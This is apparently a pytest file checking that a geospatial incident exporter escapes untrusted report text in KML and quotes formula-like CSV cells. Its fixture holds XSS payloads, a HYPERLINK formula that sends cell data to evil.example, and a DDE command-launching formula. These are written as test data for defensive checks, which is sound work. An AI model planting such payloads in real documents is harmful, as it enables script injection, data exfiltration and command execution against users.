"""Report text is untrusted: exports must not hand it to Google Earth as markup or to a spreadsheet as a formula."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from dataclasses import replace

import pandas as pd
import pyogrio

from geomap.io import export_incidents
from geomap.records import Incident

HOSTILE_SENTENCE = 'Shelling hit Ganja <img src=x onerror=alert(1)> <script>alert("kml")</script> at night.'


def hostile(incidents: list[Incident], *, sentence: str = HOSTILE_SENTENCE) -> list[Incident]:
    """The Ganja shelling with markup and formulas planted in every piece of report-derived text."""
    incident = incidents[0]
    (mention,) = incident.places
    return [replace(
        incident, claimant="=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") <b>bold</b>",
        denied_by=("@SUM(1+1)*cmd|' /C calc'!A0", "<i>Armenia</i>"),
        sources=(replace(incident.sources[0], sentence=sentence,
                         publisher="+Reuters <a href=javascript:alert(2)>x</a>"),),
        places=(replace(mention, place=replace(mention.place, name="-Ganja<svg onload=alert(3)>")),))]


def test_kml_description_carries_report_text_as_escaped_text_not_markup(incidents, tmp_path):
    path = export_incidents(hostile(incidents), tmp_path / "hostile.kml", fmt="kml")
    description = pyogrio.read_dataframe(path).loc[0, "description"]
    root = ET.parse(path).getroot()
    from_xml = [e.text for e in root.iter() if e.tag.endswith("description")]
    for text in (description, *from_xml):  # what Google Earth renders as HTML after unescaping the XML
        assert "&lt;img src=x onerror=alert(1)&gt;" in text and "&lt;script&gt;" in text
        assert "<img" not in text and "<script" not in text and "<svg" not in text and "<a href" not in text
        assert "&lt;b&gt;bold&lt;/b&gt;" in text and "&lt;i&gt;Armenia&lt;/i&gt;" in text
        assert "<br>" in text  # lines are joined as HTML line breaks


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted(incidents, tmp_path):
    rows = hostile(incidents, sentence="=1+1 killed")
    path = export_incidents(rows, tmp_path / "hostile.csv", fmt="csv")
    row = pd.read_csv(path, keep_default_na=False, dtype=str).iloc[0]
    assert row["notes"] == "'=1+1 killed"
    assert row["claimant"].startswith("'=HYPERLINK(")
    assert row["denied_by"].startswith("'@SUM(1+1)")
    assert row["source"].startswith("'+Reuters")
    assert row["location"].startswith("'-Ganja")
    # numbers and ISO dates are written as they are
    assert (row["event_date"], row["year"], row["latitude"], row["fatalities"]) == ("2020-10-11", "2020", "40.68157", "9")


def test_csv_keeps_negative_coordinates_as_numbers(incidents, tmp_path):
    (mention,) = incidents[0].places
    west = replace(incidents[0], places=(replace(mention, place=replace(mention.place, lat=-12.5, lon=-77.03)),))
    table = pd.read_csv(export_incidents([west], tmp_path / "west.csv", fmt="csv"))
    assert (table.loc[0, "latitude"], table.loc[0, "longitude"]) == (-12.5, -77.03)
